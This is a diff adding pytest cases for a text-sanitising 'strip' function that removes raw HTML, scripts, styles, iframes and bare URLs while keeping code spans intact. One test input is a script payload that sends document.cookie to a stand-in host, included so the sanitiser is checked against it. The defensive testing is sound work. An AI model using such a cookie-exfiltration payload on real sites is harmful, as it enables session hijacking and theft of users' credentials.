@@ -52,6 +52,35 @@ def test_raw_html_links_and_images_are_removed():
     )
 
 
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("Fast <script>fetch('//e.invalid?c='+document.cookie)</script>queues.", "Fast queues."),
+        ('A <iframe src="https://e.invalid/f"></iframe>queue.', "A queue."),
+        ("<STYLE>body{display:none}</STYLE>Redis.", "Redis."),
+        ('<div onclick="x()">Workers</div> <b>ack</b><!-- hidden --> jobs.', "Workers ack jobs."),
+        ("Use List<String> and a < b > c here.", "Use List<String> and a < b > c here."),
+        ("Inline `<script>` stays.", "Inline `<script>` stays."),
+    ],
+)
+def test_raw_html_is_stripped_with_scripts_styles_and_frames_whole(text, expected):
+    assert strip(text) == expected
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("Get it at https://offers.invalid/turbo.", "Get it at."),
+        ("See www.offers.invalid/turbo, then go on.", "See, then go on."),
+        ("As https://docs.example.org/rq/ says.", "As [1] says."),  # a source's address: its marker
+        ("Read [the guide](https://docs.example.org/rq/).", "Read the guide [1]."),
+        ("Code `https://offers.invalid/x` stays.", "Code `https://offers.invalid/x` stays."),
+    ],
+)
+def test_bare_addresses_in_prose_are_settled_like_links(text, expected):
+    assert strip(text) == expected
+
+
 def test_code_spans_and_code_blocks_stay_exactly_as_written():
     text = "Use `[x](http://code.invalid)` here.\n\n```\n![img](http://fenced.invalid/i.png)\n```"
     assert strip(text) == text
